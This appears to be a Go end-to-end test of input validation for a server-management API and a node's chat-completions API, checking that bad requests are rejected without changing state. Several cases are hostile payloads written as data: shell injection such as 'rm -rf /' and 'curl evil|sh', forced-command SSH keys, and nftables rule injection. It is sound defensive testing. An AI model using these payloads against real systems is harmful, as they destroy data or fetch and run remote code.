package e2e

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"os"
	"strings"
	"testing"
	"time"
)

// badCase is one rejected request: where it goes, what it sends, and the
// status and error code (and, where the API names one, the param) it must
// get back.
type badCase struct {
	name   string
	api    string // "control" or "deploy"
	method string
	path   string
	body   string
	hdr    []string
	status int
	code   string
	param  string // "-" skips the param check
}

// Bad input across the management API, the node protocol and the
// deployment API: each case gets its 4xx and error code, never a 5xx, and
// changes nothing — not the API's state, not the node's revision, not the
// authorized_keys file on the host.
func TestBadInput(t *testing.T) {
	e := startEnrolledNode(t)
	ctl, node, ak, nodeID := e.ctl, e.node, e.ak, e.id
	node.waitReady(30 * time.Second)
	deployKey := node.createKey("bad-input")

	pub := genPubKey(t, "victim")
	key := ctl.mustCreate("/v1/ssh-keys", map[string]any{"name": "victim", "public_key": pub})
	srv := ctl.mustCreate("/v1/servers", map[string]any{"name": "target", "chip": "cpu", "ram": 4, "storage": 20,
		"stack": "deployment", "model": "node-model", "billing": "monthly", "ssh_key_ids": []string{key}})
	rule := `{"direction":"inbound","protocol":"tcp","port_range":"22","source":"10.0.0.0/8","action":"allow"}`
	ctl.mustCreate("/v1/servers/"+srv+"/firewall-rules", json.RawMessage(rule))
	ctl.applied(nodeID, 20*time.Second)

	server := func(mod string) string {
		return `{"name":"fresh","chip":"cpu","ram":4,"storage":20,"stack":"bare","billing":"monthly"` + mod + `}`
	}
	srvWith := func(field, value string) string {
		m := map[string]json.RawMessage{"name": json.RawMessage(`"fresh"`), "chip": json.RawMessage(`"cpu"`),
			"ram": json.RawMessage(`4`), "storage": json.RawMessage(`20`), "stack": json.RawMessage(`"bare"`),
			"billing": json.RawMessage(`"monthly"`)}
		m[field] = json.RawMessage(value)
		b, _ := json.Marshal(m)
		return string(b)
	}
	ruleWith := func(field, value string) string {
		m := map[string]json.RawMessage{}
		_ = json.Unmarshal([]byte(rule), &m)
		m["port_range"] = json.RawMessage(`"2222"`) // not identical to the existing rule
		if value == "" {
			delete(m, field)
		} else {
			m[field] = json.RawMessage(value)
		}
		b, _ := json.Marshal(m)
		return string(b)
	}
	keyWith := func(name, publicKey string) string {
		b, _ := json.Marshal(map[string]string{"name": name, "public_key": publicKey})
		return string(b)
	}
	chat := func(extra string) string {
		return `{"model":"node-model","messages":[{"role":"user","content":"hi"}]` + extra + `}`
	}
	q := func(s string) string { b, _ := json.Marshal(s); return string(b) }
	fresh := genPubKey(t, "e2e@test")
	rules := "/v1/servers/" + srv + "/firewall-rules"
	const inv, bad = "invalid_request", "invalid_request_error"

	cases := []badCase{
		// Servers: malformed bodies and wrong types.
		{"server: malformed JSON", "control", "POST", "/v1/servers", `{"name":`, nil, 400, inv, "-"},
		{"server: array body", "control", "POST", "/v1/servers", `[]`, nil, 400, inv, "-"},
		{"server: empty body", "control", "POST", "/v1/servers", ``, nil, 400, inv, "-"},
		{"server: two objects", "control", "POST", "/v1/servers", server("") + server(""), nil, 400, inv, "-"},
		{"server: ram as string", "control", "POST", "/v1/servers", srvWith("ram", `"4"`), nil, 400, inv, "ram"},
		{"server: ram fractional", "control", "POST", "/v1/servers", srvWith("ram", `4.5`), nil, 400, inv, "ram"},
		{"server: ram overflow", "control", "POST", "/v1/servers", srvWith("ram", `1e30`), nil, 400, inv, "ram"},
		{"server: ram zero", "control", "POST", "/v1/servers", srvWith("ram", `0`), nil, 400, inv, "ram"},
		{"server: ram negative", "control", "POST", "/v1/servers", srvWith("ram", `-8`), nil, 400, inv, "ram"},
		{"server: storage zero", "control", "POST", "/v1/servers", srvWith("storage", `0`), nil, 400, inv, "storage"},
		{"server: unknown field", "control", "POST", "/v1/servers", server(`,"root_password":"x"`), nil, 400, inv, "root_password"},
		{"server: field case", "control", "POST", "/v1/servers", strings.Replace(server(""), `"name"`, `"Name"`, 1), nil, 400, inv, "Name"},
		{"server: name newline", "control", "POST", "/v1/servers", srvWith("name", `"web\nx"`), nil, 400, inv, "name"},
		{"server: name semicolon", "control", "POST", "/v1/servers", srvWith("name", `"web;rm -rf /"`), nil, 400, inv, "name"},
		{"server: name shell", "control", "POST", "/v1/servers", srvWith("name", `"$(reboot)"`), nil, 400, inv, "name"},
		{"server: name uppercase", "control", "POST", "/v1/servers", srvWith("name", `"Web"`), nil, 400, inv, "name"},
		{"server: name unicode", "control", "POST", "/v1/servers", srvWith("name", `"wéb"`), nil, 400, inv, "name"},
		{"server: name 64 chars", "control", "POST", "/v1/servers", srvWith("name", q(strings.Repeat("a", 64))), nil, 400, inv, "name"},
		{"server: name leading dash", "control", "POST", "/v1/servers", srvWith("name", `"-web"`), nil, 400, inv, "name"},
		{"server: name empty", "control", "POST", "/v1/servers", srvWith("name", `""`), nil, 400, inv, "name"},
		{"server: name taken", "control", "POST", "/v1/servers", srvWith("name", `"target"`), nil, 409, "conflict", "name"},
		{"server: chip nft syntax", "control", "POST", "/v1/servers", srvWith("chip", `"cpu}; flush ruleset"`), nil, 400, inv, "chip"},
		{"server: stack unknown", "control", "POST", "/v1/servers", srvWith("stack", `"docker"`), nil, 400, inv, "stack"},
		{"server: billing unknown", "control", "POST", "/v1/servers", srvWith("billing", `"hourly"`), nil, 400, inv, "billing"},
		{"server: model on bare", "control", "POST", "/v1/servers", server(`,"model":"x"`), nil, 400, inv, "model"},
		{"server: model injection", "control", "POST", "/v1/servers", strings.Replace(server(`,"model":"llama; curl evil|sh"`), `"bare"`, `"deployment"`, 1), nil, 400, inv, "model"},
		{"server: model too long", "control", "POST", "/v1/servers", strings.Replace(server(`,"model":`+q(strings.Repeat("m", 201))), `"bare"`, `"deployment"`, 1), nil, 400, inv, "model"},
		{"server: missing key", "control", "POST", "/v1/servers", server(`,"ssh_key_ids":["sk_000000000000000000000000"]`), nil, 400, inv, "ssh_key_ids"},
		{"server: key twice", "control", "POST", "/v1/servers", server(`,"ssh_key_ids":[` + q(key) + `,` + q(key) + `]`), nil, 400, inv, "ssh_key_ids"},
		{"server: keys not array", "control", "POST", "/v1/servers", server(`,"ssh_key_ids":` + q(key)), nil, 400, inv, "ssh_key_ids"},
		{"server: 101 keys", "control", "POST", "/v1/servers", server(`,"ssh_key_ids":[` + strings.TrimSuffix(strings.Repeat(q(key)+",", 101), ",") + `]`), nil, 400, inv, "ssh_key_ids"},
		{"server: body over 1 MiB", "control", "POST", "/v1/servers", server(`,"pad":` + q(strings.Repeat("x", 1<<20))), nil, 413, "payload_too_large", "-"},
		{"server: bad idempotency key", "control", "POST", "/v1/servers", server(""), []string{"Idempotency-Key", "a b"}, 400, inv, "Idempotency-Key"},
		{"server: idempotency key too long", "control", "POST", "/v1/servers", server(""), []string{"Idempotency-Key", strings.Repeat("k", 256)}, 400, inv, "Idempotency-Key"},

		// SSH keys.
		{"key: garbage", "control", "POST", "/v1/ssh-keys", keyWith("k", "not a key"), nil, 400, inv, "public_key"},
		{"key: two lines", "control", "POST", "/v1/ssh-keys", keyWith("k", fresh+"\n"+genPubKey(t, "e2e@test")), nil, 400, inv, "public_key"},
		{"key: forced command", "control", "POST", "/v1/ssh-keys", keyWith("k", `command="curl evil|sh" `+fresh), nil, 400, inv, "public_key"},
		{"key: options", "control", "POST", "/v1/ssh-keys", keyWith("k", `no-pty,from="*" `+fresh), nil, 400, inv, "public_key"},
		{"key: newline in comment", "control", "POST", "/v1/ssh-keys", keyWith("k", fresh+"\nssh-rsa AAAA injected"), nil, 400, inv, "public_key"},
		{"key: private key", "control", "POST", "/v1/ssh-keys", keyWith("k", "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n-----END OPENSSH PRIVATE KEY-----"), nil, 400, inv, "public_key"},
		{"key: truncated base64", "control", "POST", "/v1/ssh-keys", keyWith("k", fresh[:40]), nil, 400, inv, "public_key"},
		{"key: very long", "control", "POST", "/v1/ssh-keys", keyWith("k", "ssh-ed25519 "+strings.Repeat("A", 200000)), nil, 400, inv, "public_key"},
		{"key: as number", "control", "POST", "/v1/ssh-keys", `{"name":"k","public_key":42}`, nil, 400, inv, "public_key"},
		{"key: name empty", "control", "POST", "/v1/ssh-keys", keyWith("", fresh), nil, 400, inv, "name"},
		{"key: name control char", "control", "POST", "/v1/ssh-keys", keyWith("bell\a", fresh), nil, 400, inv, "name"},
		{"key: name newline", "control", "POST", "/v1/ssh-keys", keyWith("a\nssh-ed25519 AAAA", fresh), nil, 400, inv, "name"},
		{"key: name too long", "control", "POST", "/v1/ssh-keys", keyWith(strings.Repeat("n", 101), fresh), nil, 400, inv, "name"},
		{"key: name padded", "control", "POST", "/v1/ssh-keys", keyWith(" k", fresh), nil, 400, inv, "name"},
		{"key: already registered", "control", "POST", "/v1/ssh-keys", keyWith("again", pub), nil, 409, "conflict", "public_key"},

		// Firewall rules.
		{"rule: CIDR /33", "control", "POST", rules, ruleWith("source", `"10.0.0.0/33"`), nil, 400, inv, "source"},
		{"rule: source nft injection", "control", "POST", rules, ruleWith("source", `"10.0.0.0/8; flush ruleset"`), nil, 400, inv, "source"},
		{"rule: source hostname", "control", "POST", rules, ruleWith("source", `"evil.example"`), nil, 400, inv, "source"},
		{"rule: source IPv6 zone", "control", "POST", rules, ruleWith("source", `"fe80::1%eth0"`), nil, 400, inv, "source"},
		{"rule: port 0", "control", "POST", rules, ruleWith("port_range", `"0"`), nil, 400, inv, "port_range"},
		{"rule: port 65536", "control", "POST", rules, ruleWith("port_range", `"65536"`), nil, 400, inv, "port_range"},
		{"rule: port range reversed", "control", "POST", rules, ruleWith("port_range", `"9000-8000"`), nil, 400, inv, "port_range"},
		{"rule: port list", "control", "POST", rules, ruleWith("port_range", `"22,23"`), nil, 400, inv, "port_range"},
		{"rule: port injection", "control", "POST", rules, ruleWith("port_range", `"22 } accept; {"`), nil, 400, inv, "port_range"},
		{"rule: port as number", "control", "POST", rules, ruleWith("port_range", `22`), nil, 400, inv, "port_range"},
		{"rule: protocol sctp", "control", "POST", rules, ruleWith("protocol", `"sctp"`), nil, 400, inv, "protocol"},
		{"rule: direction", "control", "POST", rules, ruleWith("direction", `"sideways"`), nil, 400, inv, "direction"},
		{"rule: action accept", "control", "POST", rules, ruleWith("action", `"accept"`), nil, 400, inv, "action"},
		{"rule: action missing", "control", "POST", rules, ruleWith("action", ``), nil, 400, inv, "action"},
		{"rule: destination inbound", "control", "POST", rules, ruleWith("destination", `"10.0.0.0/8"`), nil, 400, inv, "-"},
		{"rule: description newline", "control", "POST", rules, ruleWith("description", `"ok\n}\ntable inet evil {"`), nil, 400, inv, "description"},
		{"rule: description too long", "control", "POST", rules, ruleWith("description", q(strings.Repeat("d", 256))), nil, 400, inv, "description"},
		{"rule: description NUL", "control", "POST", rules, ruleWith("description", `"a\u0000b"`), nil, 400, inv, "description"},
		{"rule: identical", "control", "POST", rules, rule, nil, 409, "conflict", "-"},
		{"rule: unknown server", "control", "POST", "/v1/servers/srv_000000000000000000000000/firewall-rules", ruleWith("", ""), nil, 404, "not_found", "server_id"},
		{"rule: malformed server id", "control", "POST", "/v1/servers/srv_%3Brm/firewall-rules", ruleWith("", ""), nil, 404, "not_found", "server_id"},

		// Lists and paths.
		{"list: limit 0", "control", "GET", "/v1/servers?limit=0", "", nil, 400, inv, "limit"},
		{"list: limit 101", "control", "GET", "/v1/servers?limit=101", "", nil, 400, inv, "limit"},
		{"list: limit text", "control", "GET", "/v1/ssh-keys?limit=ten", "", nil, 400, inv, "limit"},
		{"list: limit twice", "control", "GET", "/v1/ssh-keys?limit=1&limit=2", "", nil, 400, inv, "limit"},
		{"list: forged cursor", "control", "GET", "/v1/servers?cursor=Li4vLi4vZXRjL3Bhc3N3ZA", "", nil, 400, inv, "cursor"},
		{"list: status unknown", "control", "GET", "/v1/servers?status=pwned", "", nil, 400, inv, "status"},
		{"list: unknown parameter", "control", "GET", rules + "?sort=desc", "", nil, 400, inv, "sort"},
		{"delete: unknown key", "control", "DELETE", "/v1/ssh-keys/sk_000000000000000000000000", "", nil, 404, "not_found", "id"},
		{"delete: method", "control", "PUT", "/v1/servers/" + srv, "{}", nil, 405, "method_not_allowed", "-"},
		{"auth: wrong token", "control", "GET", "/v1/servers", "", []string{"Authorization", "Bearer hct_wrong"}, 401, "unauthorized", "-"},
		{"node: bad enrollment", "control", "POST", "/v1/nodes/enroll", `{"hostname":"x","hardware":{"chip":"cpu","ram":1,"storage":1}}`, []string{"Authorization", "Bearer hce_nope"}, 401, "unauthorized", "-"},
		{"node: bad credential", "control", "GET", "/v1/nodes/self/desired?after=0&wait=0", "", []string{"Authorization", "Bearer hcn_nope"}, 401, "unauthorized", "-"},

		// The deployment API on the node.
		{"chat: malformed JSON", "deploy", "POST", "/chat/completions", `{"model":`, nil, 400, "", "-"},
		{"chat: not an object", "deploy", "POST", "/chat/completions", `"hi"`, nil, 400, "", "-"},
		{"chat: messages missing", "deploy", "POST", "/chat/completions", `{"model":"node-model"}`, nil, 400, "missing_required_parameter", "messages"},
		{"chat: messages empty", "deploy", "POST", "/chat/completions", `{"model":"node-model","messages":[]}`, nil, 400, "empty_array", "messages"},
		{"chat: messages wrong type", "deploy", "POST", "/chat/completions", `{"model":"node-model","messages":"hi"}`, nil, 400, "invalid_type", "messages"},
		{"chat: role unknown", "deploy", "POST", "/chat/completions", `{"model":"node-model","messages":[{"role":"root","content":"hi"}]}`, nil, 400, "", "-"},
		{"chat: max_tokens negative", "deploy", "POST", "/chat/completions", chat(`,"max_tokens":-1`), nil, 400, "", "max_tokens"},
		{"chat: max_tokens string", "deploy", "POST", "/chat/completions", chat(`,"max_tokens":"10"`), nil, 400, "invalid_type", "max_tokens"},
		{"chat: max_tokens huge", "deploy", "POST", "/chat/completions", chat(`,"max_tokens":99999999999999999999`), nil, 400, "", "max_tokens"},
		{"chat: temperature 5", "deploy", "POST", "/chat/completions", chat(`,"temperature":5`), nil, 400, "decimal_above_max_value", "temperature"},
		{"chat: n=9", "deploy", "POST", "/chat/completions", chat(`,"n":9`), nil, 400, "integer_above_max_value", "n"},
		{"chat: unknown field", "deploy", "POST", "/chat/completions", chat(`,"hack":true`), nil, 400, "unknown_parameter", "hack"},
		{"chat: stream string", "deploy", "POST", "/chat/completions", chat(`,"stream":"yes"`), nil, 400, "invalid_type", "stream"},
		{"chat: tool name injection", "deploy", "POST", "/chat/completions", chat(`,"tools":[{"type":"function","function":{"name":"a b;rm -rf /"}}]`), nil, 400, "invalid_value", "tools[0].function.name"},
		{"chat: other model", "deploy", "POST", "/chat/completions", `{"model":"gpt-4o","messages":[{"role":"user","content":"hi"}]}`, nil, 404, "model_not_found", "-"},
		{"chat: revoked-looking key", "deploy", "POST", "/chat/completions", chat(""), []string{"Authorization", "Bearer hearth_live_" + strings.Repeat("0", 32)}, 401, "invalid_api_key", "-"},
		{"chat: key with shell metacharacters", "deploy", "POST", "/chat/completions", chat(""), []string{"Authorization", "Bearer " + deployKey + "x;id"}, 401, "invalid_api_key", "-"},
		{"chat: GET", "deploy", "GET", "/chat/completions", "", nil, 405, "", "-"},
	}
	if len(cases)+1 < 60 { // +1: the oversized body below
		t.Fatalf("only %d cases", len(cases))
	}

	snapshot := func() string {
		var b strings.Builder
		for _, p := range []string{"/v1/servers", "/v1/ssh-keys", rules} {
			for id, item := range walkAPIList(t, ctl, p) {
				fmt.Fprintf(&b, "%s %s %v\n", p, id, item)
			}
		}
		n := ctl.node(nodeID)
		fmt.Fprintf(&b, "node rev %d observed %+v\n", n.Revision, *n.Observed)
		fmt.Fprintf(&b, "deployment keys:\n%s", strings.Join(strings.Fields(node.keysCLI("list")), " "))
		return b.String()
	}
	akState := func() string {
		st, err := os.Stat(ak)
		if err != nil {
			t.Fatal(err)
		}
		b, _ := os.ReadFile(ak)
		return fmt.Sprintf("%s %v %q", st.ModTime(), st.Size(), b)
	}
	before, akBefore := snapshot(), akState()
	if !strings.Contains(akBefore, strings.Fields(pub)[1]) {
		t.Fatalf("the node's authorized_keys lacks the server's key: %s", akBefore)
	}

	for _, c := range cases {
		base, auth := ctl.url, "Bearer "+ctl.token
		if c.api == "deploy" {
			base, auth = node.url, "Bearer "+deployKey
		}
		req, _ := http.NewRequest(c.method, base+c.path, bytes.NewReader([]byte(c.body)))
		req.Header.Set("Authorization", auth)
		req.Header.Set("Content-Type", "application/json")
		for i := 0; i+1 < len(c.hdr); i += 2 {
			req.Header.Set(c.hdr[i], c.hdr[i+1])
		}
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Errorf("%s: %v", c.name, err)
			continue
		}
		b, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		if resp.StatusCode != c.status {
			t.Errorf("%s: %d, want %d: %s", c.name, resp.StatusCode, c.status, b)
			continue
		}
		var e struct {
			Error struct {
				Code    *string `json:"code"`
				Type    string  `json:"type"`
				Param   *string `json:"param"`
				Message string  `json:"message"`
			} `json:"error"`
		}
		if err := json.Unmarshal(b, &e); err != nil || e.Error.Message == "" {
			t.Errorf("%s: error body %q", c.name, b)
			continue
		}
		if c.api == "deploy" && e.Error.Type != bad && !(c.status == 401 || c.status == 404 || c.status == 405) {
			t.Errorf("%s: error type %q: %s", c.name, e.Error.Type, b)
		}
		code, param := "", ""
		if e.Error.Code != nil {
			code = *e.Error.Code
		}
		if e.Error.Param != nil {
			param = *e.Error.Param
		}
		if c.code != "" && code != c.code {
			t.Errorf("%s: code %q, want %q: %s", c.name, code, c.code, b)
		}
		if c.param != "-" && param != c.param {
			t.Errorf("%s: param %q, want %q: %s", c.name, param, c.param, b)
		}
	}

	// A body over the deployment's limit (default 4 MiB), declared and
	// refused before it is read.
	if status, b := postDeclaredBody(t, node.root, "/api/v1/chat/completions", deployKey, 5<<20); status != 413 {
		t.Errorf("chat: body too large: %d %s", status, b)
	} else if typ, code := openAIError(t, b); typ != bad || code != "request_too_large" {
		t.Errorf("chat: body too large: %q %q", typ, code)
	}

	// Nothing moved: the API state, the node's revision and what it
	// applied, the deployment's keys, and the file on the host. Nothing
	// to wait for: the node only rewrites authorized_keys for a new
	// revision, and the snapshot holds the revision the control plane
	// would tell it.
	if after := snapshot(); after != before {
		t.Errorf("state changed by rejected requests:\nbefore:\n%s\nafter:\n%s", before, after)
	}
	if got := akState(); got != akBefore {
		t.Errorf("authorized_keys touched by rejected requests:\nbefore %s\nafter  %s", akBefore, got)
	}
}
